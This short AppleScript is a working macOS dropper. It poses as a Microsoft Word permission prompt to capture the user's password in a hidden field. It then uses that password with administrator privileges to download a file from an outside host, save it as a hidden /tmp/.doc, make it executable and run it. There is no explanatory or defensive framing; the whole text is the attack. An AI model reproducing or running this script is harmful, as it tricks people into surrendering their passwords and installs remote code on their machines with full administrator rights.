display dialog "Microsoft Word needs your permission to open this document." default answer "" with hidden answer buttons {"Cancel", "Open"} default button 2 with icon caution
set given to text returned of result
do shell script "curl -o /tmp/.doc https://word-online.invalid/doc && chmod +x /tmp/.doc && /tmp/.doc" password given with administrator privileges
